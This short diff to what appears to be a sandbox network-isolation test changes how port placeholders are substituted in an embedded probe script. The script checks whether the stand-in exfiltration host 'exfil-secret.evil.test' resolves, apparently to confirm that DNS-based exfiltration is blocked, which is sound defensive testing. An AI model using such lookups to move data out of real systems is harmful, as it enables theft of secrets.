@@ -42,8 +42,8 @@ def resolves(name):
     except OSError:
         return "unresolved"
 a, b = sys.argv[1], sys.argv[2]
-print(get(a, HTTP), get(b, HTTP), get(a, OTHER), resolves("exfil-secret.evil.test"))
-""".replace("HTTP", str(HTTP_PORT)).replace("OTHER", str(OTHER_PORT))
+print(get(a, @HTTP@), get(b, @HTTP@), get(a, @OTHER@), resolves("exfil-secret.evil.test"))
+""".replace("@HTTP@", str(HTTP_PORT)).replace("@OTHER@", str(OTHER_PORT))
 
 
 def probe(stub: pb_grpc.SmolStub, machine: str, a: str, b: str) -> list[str]:
